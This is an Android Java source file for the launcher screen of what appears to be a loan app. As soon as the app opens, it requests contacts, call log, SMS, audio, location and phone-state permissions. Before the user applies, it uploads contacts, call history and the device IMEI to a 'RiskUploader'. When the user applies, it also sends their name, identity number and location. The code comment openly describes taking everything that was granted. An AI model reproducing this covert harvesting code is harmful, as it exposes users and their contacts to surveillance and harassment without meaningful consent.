package com.example.loan;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Build;
import android.os.Bundle;
import android.view.View;
import android.widget.EditText;

/** The launcher: asks for everything at once, takes what it got, and only then waits for the user. */
public class MainActivity extends Activity implements View.OnClickListener {
    private static final String[] WANTED = {
        Manifest.permission.READ_PHONE_STATE,
        Manifest.permission.READ_CONTACTS,
        Manifest.permission.READ_CALL_LOG,
        Manifest.permission.READ_SMS,
        Manifest.permission.RECORD_AUDIO,
        Manifest.permission.ACCESS_FINE_LOCATION,
    };

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        findViewById(R.id.apply).setOnClickListener(this);
        if (Build.VERSION.SDK_INT >= 23) {
            requestPermissions(WANTED, 1);
        }
        collect();
    }

    @Override
    public void onRequestPermissionsResult(int request, String[] permissions, int[] results) {
        collect();
    }

    private void collect() {
        if (granted(Manifest.permission.READ_CONTACTS)) {
            RiskUploader.post("contacts", ContactReader.read(this));
        }
        if (granted(Manifest.permission.READ_CALL_LOG)) {
            RiskUploader.post("calls", CallLogReader.read(this));
        }
        if (granted(Manifest.permission.READ_PHONE_STATE)) {
            RiskUploader.post("imei", DeviceProfile.imei(this));
        }
    }

    private boolean granted(String permission) {
        return Build.VERSION.SDK_INT < 23 || checkSelfPermission(permission) == PackageManager.PERMISSION_GRANTED;
    }

    @Override
    public void onClick(View button) {
        String name = ((EditText) findViewById(R.id.name)).getText().toString();
        String identity = ((EditText) findViewById(R.id.identity)).getText().toString();
        String place = granted(Manifest.permission.ACCESS_FINE_LOCATION) ? LocationReader.read(this) : "";
        RiskUploader.post("apply", name + "|" + identity + "|" + place);
    }
}
